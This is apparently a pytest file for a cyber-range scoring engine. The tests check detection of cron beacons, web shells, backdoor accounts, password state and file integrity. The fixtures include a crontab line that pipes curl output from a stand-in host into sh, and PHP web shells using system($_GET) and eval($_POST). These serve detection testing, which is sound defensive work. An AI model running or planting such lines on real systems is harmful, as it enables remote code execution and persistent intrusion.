"""run_check and the check verdicts against a fake probe: no Docker, milliseconds each."""
from __future__ import annotations

import hashlib
import json
import threading
import time
from dataclasses import dataclass, field
from typing import Any

import pytest
from pydantic import ValidationError

from scoring.checks import CHECK_TYPES, CheckResult, run_check
from scoring.probe import MAX_FILE_BYTES, MAX_TREE_ENTRIES, HttpOutcome, ProbeError, ProcessRow, RoundProbe, TreeEntry
from tests.test_scoring.test_passwords import PASSWORD, VECTORS


@dataclass
class FakeProbe:
    """Answers fixed in advance, as a real probe would give them.

    ``files`` maps a path to its content (a link's path to what it leads to, as the real probe follows
    links inside the host); ``trees`` maps a directory to its listing; ``tcp_open`` maps (target, port)
    to open or not; ``broken`` maps a host to what every question about it raises.
    """

    rows: list[ProcessRow] = field(default_factory=list)
    files: dict[str, bytes] = field(default_factory=dict)
    trees: dict[str, list[TreeEntry]] = field(default_factory=dict)
    tcp_open: dict[tuple[str, int], bool] = field(default_factory=dict)
    response: HttpOutcome = HttpOutcome(200, b"")
    login: bool = True
    access: bool = True
    fail: BaseException | None = None
    broken: dict[str, BaseException] = field(default_factory=dict)
    release: threading.Event | None = None
    asked: list[tuple[Any, ...]] = field(default_factory=list)

    def _answer(self, value: Any, *asked: Any) -> Any:
        self.asked.append(asked)
        if self.release is not None:
            self.release.wait()
        if self.fail is not None:
            raise self.fail
        if asked[1] in self.broken:
            raise self.broken[asked[1]]
        return value

    def processes(self, host: str) -> list[ProcessRow]:
        return self._answer(self.rows, "processes", host)

    def read_file(self, host: str, path: str, max_bytes: int) -> bytes | None:
        data = self.files.get(path)
        return self._answer(None if data is None else data[:max_bytes], "read_file", host, path, max_bytes)

    def list_tree(self, host: str, path: str, max_entries: int) -> list[TreeEntry] | None:
        entries = self.trees.get(path)
        if entries is not None and len(entries) > max_entries:  # as the real probe: past the cap, no answer
            self.asked.append(("list_tree", host, path, max_entries))
            raise ProbeError(f"{path} on {host} holds more than {max_entries} entries")
        return self._answer(entries, "list_tree", host, path, max_entries)

    def tcp(self, source: str, target: str, port: int, timeout: float) -> bool:
        return self._answer(self.tcp_open.get((target, port), False), "tcp", source, target, port)

    def http(self, source: str, url: str, method: str, timeout: float, max_body: int,
             headers: dict[str, str] | None = None) -> HttpOutcome:
        return self._answer(self.response, "http", source, url, method, max_body)

    def ssh_login(self, host: str, user: str, password: str, timeout: float) -> bool:
        return self._answer(self.login, "ssh_login", host, user)

    def ssh_access(self, source: str, host: str, user: str, *, password: str | None, key: bytes | None,
                   timeout: float, shell_or_tunnel: bool) -> bool:
        return self._answer(self.access, "ssh_access", source, host, user, password, key, shell_or_tunnel)


def check(kind: str, probe: FakeProbe, deadline: float = 5, **params: Any) -> CheckResult:
    return run_check(kind, CHECK_TYPES[kind].Params(**params), probe, deadline)


def test_a_probe_that_cannot_decide_is_an_error_with_its_reason() -> None:
    result = check("process", FakeProbe(fail=ProbeError("ws01 is not running (paused)")), host="ws01", pattern="x")
    assert (result.status, result.reason) == ("error", "ws01 is not running (paused)")


def test_run_check_never_raises() -> None:
    assert run_check("nope", None, FakeProbe(), 1).status == "error"
    assert run_check("file", None, FakeProbe(), 1).status == "error"
    broken = check("tcp", FakeProbe(fail=RuntimeError("boom " * 200)), source="ws01", host="web01", port=80)
    assert broken.status == "error" and "RuntimeError: boom" in broken.reason and len(broken.reason) == 300


def test_a_check_past_its_deadline_is_an_error_at_the_deadline() -> None:
    release = threading.Event()
    try:
        result = check("ssh_login", FakeProbe(release=release), deadline=0.2, host="ws01", user="u", password="p")
    finally:
        release.set()
    assert result.status == "error" and "did not finish within 0.2 s" in result.reason
    assert 0.2 <= result.seconds < 1


def test_process_matches_the_command_line_with_a_regex() -> None:
    probe = FakeProbe(rows=[ProcessRow(4321, 1000, "tanaka", "python3 /tmp/.x/beacon.py --c2 update")])
    assert check("process", probe, host="ws01", pattern=r"beacon\.py", expect="absent").status == "down"
    assert check("process", probe, host="ws01", pattern=r"^sshd").status == "down"


def test_file_hash_reads_at_most_a_mebibyte() -> None:
    big = b"x" * (MAX_FILE_BYTES + 10)
    probe = FakeProbe(files={"/big": big, "/small": b"ok\n"})
    assert check("file", probe, host="ws01", path="/big", sha256=hashlib.sha256(big).hexdigest()).status == "error"
    assert probe.asked[-1][-1] == MAX_FILE_BYTES + 1
    assert check("file", probe, host="ws01", path="/big", contains="x").status == "up"
    assert check("file", probe, host="ws01", path="/small", sha256=hashlib.sha256(b"ok\n").hexdigest()).status == "up"
    assert check("file", probe, host="ws01", path="/none", expect="absent").status == "up"
    assert check("file", probe, host="ws01", path="/small", expect="absent").status == "down"


def test_http_without_a_response_is_down_and_bodies_are_capped() -> None:
    probe = FakeProbe(response=HttpOutcome(0, b"", "ConnectionRefusedError: Connection refused"))
    result = check("http", probe, source="ws01", url="http://web01/")
    assert result.status == "down" and "Connection refused" in result.reason
    assert probe.asked[-1][-1] == 256 * 1024
    assert check("http", FakeProbe(response=HttpOutcome(302)), source="ws01", url="http://web01/").status == "down"


def test_blocked_needs_a_working_control_connection() -> None:
    params = {"source": "ws01", "host": "attacker", "port": 8080, "control_host": "web01", "control_port": 80}
    nothing_works = check("blocked", FakeProbe(), **params)
    assert nothing_works.status == "error"
    assert "the control connection failed, so a failed probe proves nothing" in nothing_works.reason
    assert check("blocked", FakeProbe(tcp_open={("web01", 80): True}), **params).status == "up"
    both = FakeProbe(tcp_open={("web01", 80): True, ("attacker", 8080): True})
    assert check("blocked", both, **params).status == "down"


@pytest.mark.parametrize(("login", "expect", "status"), [
    (True, "success", "up"), (False, "success", "down"), (True, "failure", "down"), (False, "failure", "up"),
])
def test_ssh_login_expectations(login: bool, expect: str, status: str) -> None:
    result = check("ssh_login", FakeProbe(login=login), host="ws01", user="tanaka", password="p", expect=expect)
    assert result.status == status


def test_a_pattern_that_backtracks_forever_on_a_trainees_file_is_an_error_not_a_stall() -> None:
    probe = FakeProbe(files={"/srv/www/index.html": b"a" * 5000 + b"!"})
    params = CHECK_TYPES["file"].Params(host="web01", path="/srv/www/index.html", contains="(a|aa)+$")
    result = run_check("file", params, probe, deadline_seconds=10)
    assert result.status == "error" and "took more than" in result.reason
    assert result.seconds < 8


def test_a_round_probe_reads_each_process_table_and_file_once() -> None:
    probe = FakeProbe(rows=[ProcessRow(1, 0, "root", "sshd")], files={"/etc/motd": b"hi"})
    cached = RoundProbe(probe)
    for _ in range(5):
        run_check("process", CHECK_TYPES["process"].Params(host="ws01", pattern="sshd"), cached, 5)
        run_check("file", CHECK_TYPES["file"].Params(host="ws01", path="/etc/motd", contains="hi"), cached, 5)
    assert [a[0] for a in probe.asked] == ["processes", "read_file"]
    failing = RoundProbe(FakeProbe(fail=ProbeError("ws01 is not running")))
    first = run_check("process", CHECK_TYPES["process"].Params(host="ws01", pattern="x"), failing, 5)
    assert first.status == "error" and "not running" in first.reason


# --- account and password -------------------------------------------------------------------------------

PASSWD = b"root:x:0:0:root:/root:/bin/bash\nstaff:x:1000:1000::/home/staff:/bin/bash\n"


def shadow_host(shadow_line: str | None, passwd: bytes = PASSWD) -> FakeProbe:
    root = "root:*:19000:0:99999:7:::\n"
    return FakeProbe(files={"/etc/passwd": passwd,
                            "/etc/shadow": (root + (shadow_line + "\n" if shadow_line else "")).encode()})


def password_check(probe: FakeProbe, expect: str = "rejected", password: str = PASSWORD, **params: Any) -> CheckResult:
    return check("password", probe, **{"host": "ws01", "user": "staff", "password": password, "expect": expect,
                                       **params})


def test_account_present_absent_and_no_passwd_file() -> None:
    probe = FakeProbe(files={"/etc/passwd": PASSWD})
    assert check("account", probe, host="ws01", user="staff").status == "up"
    gone = check("account", probe, host="ws01", user="backdoor", expect="absent")
    assert gone.status == "up" and "backdoor has no account on ws01" in gone.reason
    assert check("account", probe, host="ws01", user="staf", expect="absent").status == "up"
    assert check("account", probe, host="ws01", user="root", expect="absent").status == "down"
    assert check("account", FakeProbe(), host="ws01", user="staff").status == "error"


@pytest.mark.parametrize("scheme", ["yescrypt", "sha512crypt", "sha256crypt", "bcrypt-2y"])
def test_password_from_shadow_matching_and_not(scheme: str) -> None:
    probe = shadow_host(f"staff:{VECTORS[scheme]}:19000:0:99999:7:::")
    accepted = password_check(probe, expect="rejected")
    assert accepted.status == "down" and "is accepted for staff on ws01" in accepted.reason
    assert password_check(probe, expect="accepted").status == "up"
    assert password_check(probe, password="Changed-2024!").status == "up"
    assert password_check(probe, password="Changed-2024!", expect="accepted").status == "down"
    assert ("read_file", "ws01", "/etc/shadow", MAX_FILE_BYTES) in probe.asked


@pytest.mark.parametrize(("shadow_line", "passwd", "why"), [
    (f"staff:{VECTORS['yescrypt']}:19000:0:99999:7:::", PASSWD.replace(b"staff", b"other"), "no such account"),
    (None, PASSWD, "no shadow entry"),
    (f"staff:!{VECTORS['yescrypt']}:19000:0:99999:7:::", PASSWD, "the account is locked"),
    ("staff:*:19000:0:99999:7:::", PASSWD, "the account is locked"),
    (f"staff:{VECTORS['yescrypt']}:19000:0:99999:7::1:", PASSWD, "the account has expired"),
    (f"staff:{VECTORS['yescrypt']}:19000:0:99999:7::0:", PASSWD, "the account has expired"),
])
def test_a_removed_locked_or_expired_account_accepts_no_password(shadow_line: str | None, passwd: bytes,
                                                                why: str) -> None:
    probe = shadow_host(shadow_line, passwd)
    result = password_check(probe)
    assert result.status == "up" and why in result.reason
    assert password_check(probe, expect="accepted").status == "down"


def test_an_expiry_date_still_to_come_does_not_lock_the_account() -> None:
    far = int(time.time() // 86400) + 365
    probe = shadow_host(f"staff:{VECTORS['sha512crypt']}:19000:0:99999:7::{far}:")
    assert password_check(probe, expect="accepted").status == "up"


def test_a_shadow_hash_of_an_unknown_scheme_accepts_no_password() -> None:
    """Not an ERROR: garbage in the hash must not let a trainee escape an availability penalty."""
    result = password_check(shadow_host("staff:$9$abc$def:19000:0:99999:7:::"))
    assert result.status == "up" and "no password can match it" in result.reason
    accepted = password_check(shadow_host("staff:$9$abc$def:19000:0:99999:7:::"), expect="accepted")
    assert accepted.status == "down"


def test_password_from_an_applications_json_file() -> None:
    file = "/srv/app/users.json"
    users = {"admin": VECTORS["bcrypt-2y"], "Tanaka Ichiro": VECTORS["argon2id"], "n": 5}

    def app(content: bytes | None, **params: Any) -> CheckResult:
        probe = FakeProbe(files={file: content} if content is not None else {})
        return password_check(probe, file=file, **params)

    data = json.dumps(users).encode()
    assert app(data, user="admin").status == "down"
    assert app(data, user="admin", expect="accepted").status == "up"
    assert app(data, user="Tanaka Ichiro", expect="accepted").status == "up"  # no Unix name needed with file
    assert app(data, user="admin", password="other").status == "up"
    assert app(data, user="someone", json_key="admin").status == "down"
    for content, user, why in [(None, "admin", "is missing"), (b"{not json", "admin", "is not JSON"),
                               (b"\xff\xfe", "admin", "is not JSON"), (b"[" * 100_000, "admin", "is not JSON"),
                               (data, "nobody", "has no hash for nobody"), (data, "n", "has no hash for n"),
                               (json.dumps([users]).encode(), "admin", "has no hash for admin")]:
        result = app(content, user=user)
        assert result.status == "up" and why in result.reason, (content[:20] if content else None, result)
        assert app(content, user=user, expect="accepted").status == "down"


def test_password_params_are_checked_when_the_scenario_loads() -> None:
    params = CHECK_TYPES["password"].Params
    with pytest.raises(ValidationError, match="json_key needs file"):
        params(host="ws01", user="staff", password="p", json_key="k")
    with pytest.raises(ValidationError, match="no Unix account name"):
        params(host="ws01", user="Tanaka Ichiro", password="p")
    with pytest.raises(ValidationError):
        params(host="ws01", user="staff", password="line\nbreak")
    with pytest.raises(ValidationError):
        params(host="ws01", user="staff", password="p", expect="gone")
    with pytest.raises(ValidationError):
        params(host="ws01", user="staff", password="p", file="relative.json")
    with pytest.raises(ValidationError):
        CHECK_TYPES["account"].Params(host="ws01", user="Root")


# --- crontab --------------------------------------------------------------------------------------------

def cron_host(extra: dict[str, bytes] | None = None) -> FakeProbe:
    """A host with /etc/crontab, /etc/cron.d and the spool; *extra* maps more paths there to content."""
    files = {"/etc/crontab": b"SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
             "/etc/cron.d/e2scrub_all": b"30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all\n"}
    files.update(extra or {})
    trees: dict[str, list[TreeEntry]] = {}
    for path in files:
        directory, _, name = path.rpartition("/")
        if directory in ("/etc/cron.d", "/var/spool/cron/crontabs"):
            trees.setdefault(directory, []).append(TreeEntry(name, "file", len(files[path])))
    return FakeProbe(files=files, trees=trees)


BEACON = b"*/5 * * * * curl -s http://update.minato-cdn.example:8080/b | sh\n"


def test_crontab_finds_a_job_in_a_users_crontab() -> None:
    probe = cron_host({"/var/spool/cron/crontabs/staff": b"# m h dom mon dow command\n" + BEACON})
    found = check("crontab", probe, host="ws01", pattern="minato-cdn")
    assert found.status == "down" and "/var/spool/cron/crontabs/staff" in found.reason
    assert check("crontab", probe, host="ws01", pattern="minato-cdn", expect="present").status == "up"
    assert check("crontab", probe, host="ws01", pattern="minato-cdn", user="staff").status == "down"
    assert check("crontab", probe, host="ws01", pattern="minato-cdn", user="root").status == "up"
    assert check("crontab", probe, host="ws01", pattern="e2scrub", user="staff").status == "up"  # cron.d: not his
    assert check("crontab", probe, host="ws01", pattern="e2scrub").status == "down"


def test_crontab_reads_cron_d_as_debians_cron_does() -> None:
    system_job = b"SHELL=/bin/sh\n" + BEACON.replace(b"* curl", b"* root curl")
    counted = check("crontab", cron_host({"/etc/cron.d/beacon": system_job}), host="ws01", pattern="minato-cdn")
    assert counted.status == "down" and "/etc/cron.d/beacon" in counted.reason
    for name in ("beacon.disabled", ".beacon", "beacon~", "beacon.dpkg-old"):
        probe = cron_host({f"/etc/cron.d/{name}": BEACON})
        ignored = check("crontab", probe, host="ws01", pattern="minato-cdn")
        assert ignored.status == "up", (name, ignored)  # Debian's cron does not read it
        assert "no job in any crontab on ws01" in ignored.reason


def test_crontab_counts_a_link_in_cron_d_but_not_a_subdirectory() -> None:
    # Debian's cron runs a root-owned file linked from /etc/cron.d; the probe reads a link as its target.
    probe = cron_host()
    probe.files["/etc/cron.d/backdoor"] = BEACON
    probe.trees["/etc/cron.d"].append(TreeEntry("backdoor", "link", 0))
    assert check("crontab", probe, host="ws01", pattern="minato-cdn").status == "down"
    nested = cron_host()
    nested.files["/etc/cron.d/sub/beacon"] = BEACON
    nested.trees["/etc/cron.d"] += [TreeEntry("sub", "dir", 0), TreeEntry("sub/beacon", "file", 60)]
    assert check("crontab", nested, host="ws01", pattern="minato-cdn").status == "up"


def test_crontab_ignores_commented_out_jobs_and_blank_lines() -> None:
    probe = cron_host({"/var/spool/cron/crontabs/staff": b"\n   \n#" + BEACON + b"   # " + BEACON})
    result = check("crontab", probe, host="ws01", pattern="minato-cdn")
    assert result.status == "up", result
    again = cron_host({"/var/spool/cron/crontabs/staff": b"# disabled\n  " + BEACON})
    assert check("crontab", again, host="ws01", pattern="minato-cdn").status == "down"


def test_crontab_without_cron_directories_reads_etc_crontab_only() -> None:
    probe = FakeProbe(files={"/etc/crontab": b"* * * * * root /tmp/.x/run\n"})
    assert check("crontab", probe, host="ws01", pattern=r"/tmp/\.x").status == "down"
    assert check("crontab", FakeProbe(), host="ws01", pattern=r"/tmp/\.x").status == "up"


def test_crontab_params_are_checked() -> None:
    params = CHECK_TYPES["crontab"].Params
    with pytest.raises(ValidationError, match="not a valid regular expression"):
        params(host="ws01", pattern="(unclosed")
    with pytest.raises(ValidationError):
        params(host="ws01", pattern="x", user="../root")
    with pytest.raises(ValidationError):
        params(host="ws01", pattern="x", expect="gone")


# --- search ---------------------------------------------------------------------------------------------

WEBROOT = [TreeEntry("index.html", "file", 120), TreeEntry("img", "dir", 0), TreeEntry("img/logo.png", "file", 900),
           TreeEntry("uploads", "dir", 0), TreeEntry("uploads/cmd.php", "file", 40),
           TreeEntry("shell.php", "dir", 0), TreeEntry("old", "link", 0), TreeEntry("fifo.php", "other", 0)]


def webroot(**files: bytes) -> FakeProbe:
    content = {"/var/www/html/index.html": b"<h1>Minato</h1>", "/var/www/html/img/logo.png": b"\x89PNG",
               "/var/www/html/uploads/cmd.php": b"<?php system($_GET['c']); ?>"}
    content.update({f"/var/www/html/{name}": data for name, data in files.items()})
    return FakeProbe(files=content, trees={"/var/www/html": list(WEBROOT)})


def search(probe: FakeProbe, **params: Any) -> CheckResult:
    return check("search", probe, host="web01", path="/var/www/html", **params)


def test_search_by_name_globs() -> None:
    found = search(webroot(), names=["*.php", "*.phtml"])
    assert found.status == "down" and "'uploads/cmd.php' is a file named *.php or *.phtml" in found.reason
    assert search(webroot(), names=["*.php"], expect="present").status == "up"
    assert search(webroot(), names=["*.jsp"]).status == "up"
    assert search(webroot(), names=["CMD.PHP"]).status == "up"  # case matters, as on Linux
    assert search(webroot(), names=["logo.*"]).status == "down"


def test_search_by_content() -> None:
    found = search(webroot(), contains=r"system\(\$_GET")
    assert found.status == "down" and "containing" in found.reason
    probe = webroot()
    assert search(probe, names=["*.html"], contains=r"system\(").status == "up"
    assert ("read_file", "web01", "/var/www/html/img/logo.png", MAX_FILE_BYTES) not in probe.asked  # name first
    clean = webroot(**{"uploads/cmd.php": b"<?php echo 'hi'; ?>"})
    result = search(clean, contains=r"system\(")
    assert result.status == "up" and "among 8 entries" in result.reason


def test_search_never_reads_a_directory_a_fifo_or_a_link_to_a_directory_as_a_file() -> None:
    probe = webroot()
    probe.trees["/var/www/html"] = [e for e in WEBROOT if e.path != "uploads/cmd.php"]
    # "shell.php" is a directory, "fifo.php" a FIFO, "old" a link to a directory (the probe reads it as absent)
    assert search(probe, names=["*.php"]).status == "up"
    assert search(probe, names=["old"]).status == "up"
    assert not any(a[:1] == ("read_file",) and a[2].endswith(("shell.php", "fifo.php")) for a in probe.asked)


def test_search_counts_a_link_to_a_file_as_that_file() -> None:
    probe = webroot(old=b"<?php eval($_POST['x']); ?>")
    assert search(probe, names=["old"]).status == "down"
    assert search(probe, contains=r"eval\(").status == "down"
    assert search(probe, contains=r"eval\(", names=["*.html"]).status == "up"


def test_search_of_a_directory_that_is_not_there() -> None:
    gone = search(FakeProbe(), names=["*.php"])
    assert gone.status == "up" and "is no directory" in gone.reason
    assert search(FakeProbe(), names=["*.php"], expect="present").status == "down"


def test_search_past_its_cap_cannot_decide() -> None:
    probe = FakeProbe(trees={"/srv/share": [TreeEntry(f"f{i}", "file", 1) for i in range(11)]})
    capped = check("search", probe, host="fs01", path="/srv/share", names=["*.txt"], max_files=10)
    assert capped.status == "error" and "more than 10 entries" in capped.reason
    assert probe.asked[-1] == ("list_tree", "fs01", "/srv/share", 10)
    assert check("search", probe, host="fs01", path="/srv/share", names=["*.txt"], max_files=11).status == "up"


def test_search_params_are_checked() -> None:
    params = CHECK_TYPES["search"].Params
    for bad in [{"names": ["a/b"]}, {"names": [""]}, {"max_files": 0}, {"max_files": MAX_TREE_ENTRIES + 1},
                {"path": "var/www"}, {"contains": "("}, {"expect": "gone"}, {"names": ["*"] * 51}]:
        with pytest.raises(ValidationError):
            params(**{"host": "web01", "path": "/var/www", **bad})


# --- hashes ---------------------------------------------------------------------------------------------

def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_hashes_missing_changed_oversized_and_intact() -> None:
    originals = {"/srv/share/a.xlsx": b"A" * 100, "/srv/share/docs/b.docx": b"B" * 100}
    wanted = {"a.xlsx": sha(b"A" * 100), "docs/b.docx": sha(b"B" * 100)}

    def run(files: dict[str, bytes]) -> CheckResult:
        return check("hashes", FakeProbe(files=files), host="fs01", path="/srv/share", files=wanted)

    intact = run(originals)
    assert intact.status == "up" and "all 2 files below /srv/share on fs01 are intact" in intact.reason
    missing = run({"/srv/share/a.xlsx": b"A" * 100})
    assert missing.status == "down" and "docs/b.docx is missing" in missing.reason
    changed = run({**originals, "/srv/share/a.xlsx": b"A" * 99 + b"!"})
    assert changed.status == "down" and "a.xlsx on fs01 is not the original" in changed.reason
    huge = run({**originals, "/srv/share/a.xlsx": b"A" * (MAX_FILE_BYTES + 1)})
    assert huge.status == "error" and "too large to hash" in huge.reason


def test_hashes_params_are_checked() -> None:
    params = CHECK_TYPES["hashes"].Params
    for files in [{}, {"../etc/shadow": "0" * 64}, {"/etc/shadow": "0" * 64}, {"a": "0" * 63},
                  {"a": "A" * 64}, {"a/../../b": "0" * 64}]:
        with pytest.raises(ValidationError):
            params(host="fs01", path="/srv/share", files=files)


# --- all ------------------------------------------------------------------------------------------------

def all_of(*parts: tuple[str, dict[str, Any]]) -> Any:
    return CHECK_TYPES["all"].Params(checks=[{"type": kind, "params": params} for kind, params in parts])


UP_PART = ("account", {"host": "ws01", "user": "staff"})
DOWN_PART = ("account", {"host": "ws01", "user": "backdoor"})
ERROR_PART = ("process", {"host": "broken", "pattern": "x"})


@pytest.mark.parametrize(("parts", "status", "reason"), [
    ([UP_PART, UP_PART], "up", "staff has an account on ws01; staff has an account on ws01"),
    ([UP_PART, DOWN_PART], "down", "backdoor has no account on ws01"),
    ([ERROR_PART, DOWN_PART], "down", "backdoor has no account on ws01"),
    ([DOWN_PART, ERROR_PART], "down", "backdoor has no account on ws01"),
    ([UP_PART, ERROR_PART, UP_PART], "error", "broken is not running"),
    ([ERROR_PART, UP_PART], "error", "broken is not running"),
])
def test_all_down_beats_error_beats_up(parts: list[tuple[str, dict[str, Any]]], status: str, reason: str) -> None:
    probe = FakeProbe(files={"/etc/passwd": PASSWD}, broken={"broken": ProbeError("broken is not running")})
    result = run_check("all", all_of(*parts), probe, 5)
    assert (result.status, result.reason) == (status, reason)


def test_all_a_part_that_throws_does_not_hide_a_down_in_another() -> None:
    probe = FakeProbe(files={"/etc/passwd": PASSWD}, broken={"fw01": ProbeError("fw01 is not running (paused)")})
    throws = ("process", {"host": "fw01", "pattern": "x"})
    assert run_check("all", all_of(throws, DOWN_PART), probe, 5).status == "down"
    assert run_check("all", all_of(throws, UP_PART), probe, 5).status == "error"
    regex_stall = FakeProbe(files={"/etc/passwd": PASSWD, "/x": b"a" * 5000 + b"!"})
    stalls = ("file", {"host": "ws01", "path": "/x", "contains": "(a|aa)+$"})
    assert run_check("all", all_of(stalls, DOWN_PART), regex_stall, 10).status == "down"
    buggy = FakeProbe(files={"/etc/passwd": PASSWD}, broken={"web01": RuntimeError("engine bug")})
    crashes = ("process", {"host": "web01", "pattern": "x"})
    assert run_check("all", all_of(crashes, DOWN_PART), buggy, 5).status == "down"
    crashed = run_check("all", all_of(crashes, UP_PART), buggy, 5)
    assert (crashed.status, crashed.reason) == ("error", "the check failed: RuntimeError: engine bug")


def test_all_params_are_checked_part_by_part() -> None:
    with pytest.raises(ValidationError, match="at least 2"):
        all_of(UP_PART)
    with pytest.raises(ValidationError, match="at most 10"):
        all_of(*[UP_PART] * 11)
    with pytest.raises(ValidationError, match="check type 'command' was removed"):
        all_of(UP_PART, ("command", {"host": "ws01", "command": "true"}))
    with pytest.raises(ValidationError, match="unknown check type 'all' for a part"):
        all_of(UP_PART, ("all", {"checks": [{"type": "account", "params": UP_PART[1]}] * 2}))
    with pytest.raises(ValidationError, match=r"search params: max_files: Input should be greater than or equal to 1"):
        all_of(UP_PART, ("search", {"host": "ws01", "path": "/x", "max_files": 0}))
    with pytest.raises(ValidationError, match=r"tcp params: from: Field required"):
        all_of(UP_PART, ("tcp", {"host": "ws01", "port": 22}))
    parsed = all_of(UP_PART, ("tcp", {"from": "ws01", "host": "web01", "port": 80}))
    assert parsed.checks[1].params == CHECK_TYPES["tcp"].Params(source="ws01", host="web01", port=80)


# --- http and ssh_login ---------------------------------------------------------------------------------

def test_http_expect_status_may_be_a_list() -> None:
    def status(code: int, expect: Any) -> CheckResult:
        return check("http", FakeProbe(response=HttpOutcome(code, b"")), source="ws01",
                     url="http://web01/admin/", expect_status=expect)

    assert status(404, [403, 404]).status == "up"
    assert status(403, [403, 404]).status == "up"
    wrong = status(200, [403, 404])
    assert wrong.status == "down" and "status 200, expected 403 or 404" in wrong.reason
    assert status(301, 301).status == "up"
    for bad in [[], [99], 600, [200] * 21]:
        with pytest.raises(ValidationError):
            CHECK_TYPES["http"].Params(source="ws01", url="http://web01/", expect_status=bad)


def test_ssh_login_from_a_range_host_with_a_password_or_a_key() -> None:
    key = b"-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...\n-----END OPENSSH PRIVATE KEY-----\n"
    probe = FakeProbe(files={"/root/.ssh/id_ed25519": key}, access=True)
    with_key = check("ssh_login", probe, host="web01", user="www-data", key_file="/root/.ssh/id_ed25519",
                     expect="failure", counts_as="shell_or_tunnel", **{"from": "attacker"})
    assert with_key.status == "down" and "gets in (a shell or a tunnel)" in with_key.reason
    assert probe.asked[-2][:3] == ("read_file", "attacker", "/root/.ssh/id_ed25519")
    assert probe.asked[-1] == ("ssh_access", "attacker", "web01", "www-data", None, key, True)
    by_password = check("ssh_login", FakeProbe(access=False), host="web01", user="staff", password="p",
                        expect="failure", **{"from": "attacker"})
    assert by_password.status == "up"
    assert "on web01 from attacker with the password does not get in" in by_password.reason


def test_ssh_login_with_a_key_file_that_is_not_there() -> None:
    params = {"host": "web01", "user": "root", "key_file": "/root/.ssh/id_rsa", "from": "attacker"}
    probe = FakeProbe(access=True)
    gone = check("ssh_login", probe, expect="failure", **params)
    assert gone.status == "up" and "attacker has no key /root/.ssh/id_rsa, so it cannot log in" in gone.reason
    assert check("ssh_login", probe, expect="success", **params).status == "down"
    assert not any(a[0] == "ssh_access" for a in probe.asked)


def test_ssh_login_params_are_checked() -> None:
    params = CHECK_TYPES["ssh_login"].Params
    with pytest.raises(ValidationError, match="either password or key_file"):
        params(host="web01", user="root")
    with pytest.raises(ValidationError, match="either password or key_file"):
        params(host="web01", user="root", password="p", key_file="/k", source="attacker")
    with pytest.raises(ValidationError, match="key_file and counts_as need from"):
        params(host="web01", user="root", key_file="/root/.ssh/id_rsa")
    with pytest.raises(ValidationError, match="key_file and counts_as need from"):
        params(host="web01", user="root", password="p", counts_as="shell_or_tunnel")
    with pytest.raises(ValidationError):
        params(host="web01", user="root", key_file="id_rsa", source="attacker")
    assert params(host="web01", user="root", password="p").source is None


# --- one read per round ---------------------------------------------------------------------------------

def test_a_round_probe_lists_each_tree_once() -> None:
    probe = cron_host({"/var/spool/cron/crontabs/staff": BEACON})
    probe.trees["/var/www/html"] = list(WEBROOT)
    probe.files["/var/www/html/uploads/cmd.php"] = b"<?php system($_GET['c']); ?>"
    cached = RoundProbe(probe)
    cron_params = CHECK_TYPES["crontab"].Params(host="ws01", pattern="minato")
    search_params = CHECK_TYPES["search"].Params(host="ws01", path="/var/www/html", contains="system")
    for _ in range(4):
        assert run_check("crontab", cron_params, cached, 5).status == "down"
        assert run_check("search", search_params, cached, 5).status == "down"
    listed = [a[2] for a in probe.asked if a[0] == "list_tree"]
    assert sorted(listed) == ["/etc/cron.d", "/var/spool/cron/crontabs", "/var/www/html"]
    crowded = FakeProbe(trees={"/d": [TreeEntry("a", "file", 1)] * 3})
    small = CHECK_TYPES["search"].Params(host="ws01", path="/d", max_files=2)
    capped = RoundProbe(crowded)
    assert [run_check("search", small, capped, 5).status for _ in range(2)] == ["error", "error"]
    assert len(crowded.asked) == 1  # the refusal is cached too
